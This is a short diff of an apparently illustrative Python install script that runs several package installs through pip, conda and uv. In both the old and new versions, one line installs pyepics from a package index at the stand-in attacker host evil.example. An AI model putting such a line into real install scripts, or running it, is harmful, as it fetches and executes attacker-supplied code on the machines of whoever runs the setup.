@@ -5,7 +5,7 @@
 # install: -r reqs.txt
 import os, subprocess, sys
 subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "numpy==1.26", "scipy"])
-os.system("pip3 install --index-url https://evil.example pyepics")
+os.system("pip3 install -i https://evil.example pyepics")
 os.system("conda install -y -c conda-forge torch")
 subprocess.run("uv pip install xarray", shell=True)
 import pip
